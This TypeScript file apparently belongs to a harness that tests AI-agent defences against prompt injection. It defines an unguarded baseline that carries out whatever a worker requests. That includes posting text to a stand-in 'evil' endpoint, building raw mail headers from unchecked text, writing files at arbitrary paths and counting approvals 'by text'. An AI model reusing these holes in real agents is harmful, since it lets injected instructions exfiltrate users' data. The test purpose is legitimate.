import { createTransport } from "nodemailer";
import { mkdirSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import type { Allowed } from "./allowed.ts";
import type { Want } from "./worker.ts";
import type { TrustWorld } from "./world.ts";

/** Does whatever a worker wants, as it says it: what an agent is without anything of what is tested here. Resolves with what it decided. */
export async function sendUnchecked(
  { services, root }: TrustWorld,
  { file, slack: home = "", mail: to }: Allowed,
  wants: readonly Want[],
): Promise<string[]> {
  const { slack, mail, webhook, evil, gmail } = services;
  const decisions: string[] = [];
  const post = (url: string, type: string, body: string): Promise<Response> =>
    fetch(url, { method: "POST", headers: { "content-type": type }, body });
  const form = (args: Readonly<Record<string, string>>) =>
    post(`${slack.api}chat.postMessage`, "application/x-www-form-urlencoded", new URLSearchParams(args).toString());
  const still = { unfurl_links: "false", unfurl_media: "false" };
  const words = wants.flatMap((want) => (want.kind === "say" ? want.text : [])).join("\n");
  if (words !== "") {
    await form({ channel: home, text: words, ...still });
    await sendMail(mail.port, [...to].join(), `Briefing ${words.slice(0, 60)}`, words);
    if (file !== undefined) write(root, file, words);
    else await post(webhook.url, "application/json", JSON.stringify({ title: "x", text: words, markdown: words, briefing: {} }));
  }
  for (const want of wants) {
    if (want.kind === "slack") await form({ channel: want.channel || home, text: want.text, ...(want.unfurl ? {} : still) });
    if (want.kind === "mail") await sendMail(mail.port, want.to, want.subject, want.subject);
    if (want.kind === "post") await post(evil.url, "text/plain", want.text);
    if (want.kind === "read") await fetch(`${gmail.connection.api}gmail/v1/users/me/messages?q=${encodeURIComponent(want.query)}`);
    if (want.kind === "file") write(root, want.path, want.text);
    if (want.kind === "approve" || want.kind === "pause") decisions.push(`${want.kind} by text`);
  }
  return decisions;
}

/** As it would be by hand: header lines are what the words make of them. */
async function sendMail(port: number, to: string, subject: string, body: string): Promise<void> {
  const transport = createTransport({ host: "127.0.0.1", port, secure: false, ignoreTLS: true });
  const raw = `From: chief@example.com\r\nTo: ${to}\r\nSubject: ${subject}\r\n\r\n${body}\r\n`;
  await transport.sendMail({ envelope: { from: "chief@example.com", to }, raw });
  transport.close();
}

function write(root: string, path: string, text: string): void {
  mkdirSync(dirname(join(root, path)), { recursive: true });
  writeFileSync(join(root, path), text);
}
